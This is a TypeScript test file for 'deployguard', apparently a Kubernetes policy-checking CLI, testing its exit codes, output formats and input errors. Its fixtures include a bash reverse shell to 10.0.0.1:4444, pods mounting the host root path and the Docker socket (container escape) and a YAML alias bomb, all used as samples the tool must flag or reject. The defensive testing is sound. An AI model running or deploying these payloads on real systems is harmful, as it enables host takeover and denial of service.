// The offline CLI end to end, as a platform team's CI would run it: a real process, real files, stdin.
import { expect } from 'chai';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

const ROOT = fileURLToPath(new URL('../../../', import.meta.url));
const CLI = join(ROOT, 'src/cli.ts');
const dir = mkdtempSync(join(tmpdir(), 'dg-cli-'));

function file(name: string, text: string): string {
  const p = join(dir, name);
  writeFileSync(p, text);
  return p;
}

function cli(args: string[], input?: string) {
  const r = spawnSync(process.execPath, ['--no-warnings', CLI, ...args], {
    input,
    encoding: 'utf8',
    cwd: ROOT,
  });
  return { code: r.status, out: r.stdout, err: r.stderr };
}

const POLICY = file(
  'policy.yaml',
  `apiVersion: deployguard.dev/v1alpha1
kind: ContainerDeploymentPolicy
metadata: {name: p}
spec:
  match:
    namespaceSelector: {matchLabels: {env: prod}}
  rules:
    hostPaths: {}
    indicators: {}
`,
);
const PROD_NS = `apiVersion: v1
kind: Namespace
metadata: {name: prod, labels: {env: prod}}
`;
const ESCAPE = `apiVersion: v1
kind: Pod
metadata: {name: x, namespace: prod}
spec:
  containers: [{name: c, image: alpine:3.20}]
  volumes: [{name: root, hostPath: {path: /}}]
`;
const BENIGN = `apiVersion: v1
kind: Pod
metadata: {name: ok, namespace: prod}
spec:
  containers: [{name: c, image: nginx:1.27}]
`;

describe('deployguard evaluate (CLI)', function () {
  this.timeout(30_000);

  it('exits 0 with no violations', () => {
    const r = cli(['evaluate', '-p', POLICY, '-f', file('ok.yaml', `${PROD_NS}---\n${BENIGN}`)]);
    expect(r.err).to.equal('');
    expect(r.code).to.equal(0);
    expect(r.out).to.contain('No violations in 1 resource.');
  });

  it('exits 1 with violations and prints the exact JSON shape', () => {
    const r = cli([
      'evaluate',
      '-p',
      POLICY,
      '-f',
      file('bad.yaml', `${PROD_NS}---\n${ESCAPE}---\n${BENIGN}`),
      '-o',
      'json',
    ]);
    expect(r.code).to.equal(1);
    const out = JSON.parse(r.out);
    expect(Object.keys(out)).to.deep.equal(['results', 'summary']);
    expect(out.summary).to.deep.equal({ resources: 2, violating: 1, violations: 1 });
    const [v] = out.results;
    expect(Object.keys(v)).to.deep.equal([
      'resource',
      'container',
      'policy',
      'rule',
      'severity',
      'techniques',
      'message',
      'path',
    ]);
    expect(v.resource).to.deep.equal({
      apiVersion: 'v1',
      kind: 'Pod',
      namespace: 'prod',
      name: 'x',
    });
    expect(v).to.deep.include({
      policy: 'p',
      rule: 'hostPath.sensitive',
      severity: 'critical',
      path: 'spec.volumes[0].hostPath.path',
    });
    expect(v.techniques).to.deep.equal(['T1611']);
    expect(v.message).to.be.a('string').and.not.equal('');
  });

  it('reads resources from stdin with -', () => {
    const r = cli(['evaluate', '-p', POLICY, '-f', '-', '-o', 'json'], `${PROD_NS}---\n${ESCAPE}`);
    expect(r.code).to.equal(1);
    expect(JSON.parse(r.out).summary.violations).to.equal(1);
  });

  it('reads JSON input and kind: List, and takes several -f files', () => {
    const list = JSON.stringify({
      apiVersion: 'v1',
      kind: 'List',
      items: [
        {
          apiVersion: 'v1',
          kind: 'Namespace',
          metadata: { name: 'prod', labels: { env: 'prod' } },
        },
      ],
    });
    const pod = file(
      'pod.json',
      JSON.stringify({
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { name: 'j', namespace: 'prod' },
        spec: {
          containers: [
            {
              name: 'c',
              image: 'x:1',
              command: ['sh', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
            },
          ],
        },
      }),
    );
    const r = cli([
      'evaluate',
      '-p',
      POLICY,
      '-f',
      file('list.json', list),
      '-f',
      pod,
      '-o',
      'json',
    ]);
    expect(r.code).to.equal(1);
    expect(JSON.parse(r.out).results[0].rule).to.equal('indicator.reverseShell');
  });

  it('puts resources without a namespace in default (not selected by the prod-only policy)', () => {
    const r = cli([
      'evaluate',
      '-p',
      POLICY,
      '-f',
      file('nons.yaml', ESCAPE.replace('namespace: prod', 'labels: {a: b}')),
    ]);
    expect(r.code).to.equal(0);
  });

  it('judges workload templates with their paths', () => {
    const dep = `apiVersion: apps/v1
kind: Deployment
metadata: {name: d, namespace: prod}
spec:
  selector: {matchLabels: {a: b}}
  template:
    metadata: {labels: {a: b}}
    spec:
      containers: [{name: c, image: x:1}]
      volumes: [{name: v, hostPath: {path: /var/run/docker.sock}}]
`;
    const r = cli([
      'evaluate',
      '-p',
      POLICY,
      '-f',
      file('dep.yaml', `${PROD_NS}---\n${dep}`),
      '-o',
      'json',
    ]);
    expect(r.code).to.equal(1);
    const [v] = JSON.parse(r.out).results;
    expect(v.resource.kind).to.equal('Deployment');
    expect(v.path).to.equal('spec.template.spec.volumes[0].hostPath.path');
  });

  it('prints a readable table by default', () => {
    const r = cli(['evaluate', '-p', POLICY, '-f', file('t.yaml', `${PROD_NS}---\n${ESCAPE}`)]);
    expect(r.code).to.equal(1);
    const lines = r.out.split('\n');
    expect(lines[0]).to.match(/^RESOURCE\s+CONTAINER\s+POLICY\s+RULE\s+SEVERITY\s+PATH\s+MESSAGE$/);
    expect(lines[1]).to.match(
      /^Pod\/prod\/x\s+-\s+p\s+hostPath\.sensitive\s+critical\s+spec\.volumes\[0\]\.hostPath\.path\s+volume/,
    );
    expect(r.out).to.contain('1 violation in 1 of 1 resource.');
  });

  describe('invalid input exits 2 and names file, document and field', () => {
    it('an invalid policy', () => {
      const bad = file(
        'badpolicy.yaml',
        `${'apiVersion: deployguard.dev/v1alpha1\nkind: ContainerDeploymentPolicy\nmetadata: {name: ok}\nspec: {rules: {indicators: {}}}\n'}---\napiVersion: deployguard.dev/v1alpha1\nkind: ContainerDeploymentPolicy\nmetadata: {name: q}\nspec:\n  mode: Bogus\n  rules: {commands: {deniedPatterns: ['(']}}\n`,
      );
      const r = cli(['evaluate', '-p', bad, '-f', file('x.yaml', BENIGN)]);
      expect(r.code).to.equal(2);
      expect(r.err).to.contain(`${bad}: document 1: spec.mode: Unsupported value: "Bogus"`);
      expect(r.out).to.equal('');
    });
    it('a regex problem found after the schema passes', () => {
      const bad = file(
        'badre.yaml',
        'apiVersion: deployguard.dev/v1alpha1\nkind: ContainerDeploymentPolicy\nmetadata: {name: q}\nspec:\n  rules: {commands: {deniedPatterns: [ok, "(a+"]}}\n',
      );
      const r = cli(['evaluate', '-p', bad, '-f', file('x.yaml', BENIGN)]);
      expect(r.code).to.equal(2);
      expect(r.err).to.contain(`${bad}: document 0: spec.rules.commands.deniedPatterns[1]`);
    });
    it('a non-policy document among the policies', () => {
      const r = cli([
        'evaluate',
        '-p',
        file('notpolicy.yaml', BENIGN),
        '-f',
        file('x.yaml', BENIGN),
      ]);
      expect(r.code).to.equal(2);
      expect(r.err).to.contain('document 0: kind: expected a ContainerDeploymentPolicy, got "Pod"');
    });
    it('a malformed pod', () => {
      const f = file(
        'badpod.yaml',
        `${BENIGN}---\napiVersion: v1\nkind: Pod\nmetadata: {name: y}\nspec:\n  containers:\n    - {name: c, image: x, command: sh}\n`,
      );
      const r = cli(['evaluate', '-p', POLICY, '-f', f]);
      expect(r.code).to.equal(2);
      expect(r.err).to.contain(
        `${f}: document 1: spec.containers[0].command: must be a list of strings`,
      );
    });
    it('broken YAML', () => {
      const f = file('broken.yaml', `${BENIGN}---\nkind: Pod\nmetadata: {name: [unclosed\n`);
      const r = cli(['evaluate', '-p', POLICY, '-f', f]);
      expect(r.code).to.equal(2);
      expect(r.err).to.contain(`${f}: document 1: invalid YAML`);
    });
    it('a missing file', () => {
      const r = cli(['evaluate', '-p', POLICY, '-f', join(dir, 'nope.yaml')]);
      expect(r.code).to.equal(2);
      expect(r.err).to.contain('nope.yaml: cannot read: ENOENT');
    });
    it('bad flags', () => {
      expect(cli(['evaluate', '-p', POLICY]).code).to.equal(2);
      expect(cli(['evaluate', '-p', POLICY, '-f', POLICY, '-o', 'xml']).err).to.contain(
        '-o must be table or json',
      );
      expect(cli(['evaluate', '--bogus']).code).to.equal(2);
      expect(cli(['frobnicate']).code).to.equal(2);
    });
    it('a YAML alias bomb', () => {
      const bomb = [
        'a: &a ["x","x","x","x","x","x","x","x","x"]',
        'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
        'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
        'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
        'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
        'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
        'g: [*f,*f,*f,*f,*f,*f,*f,*f,*f]',
      ].join('\n');
      const r = cli(['evaluate', '-p', POLICY, '-f', file('bomb.yaml', bomb)]);
      expect(r.code).to.equal(2);
      expect(r.err).to.contain('invalid YAML');
    });
  });
});
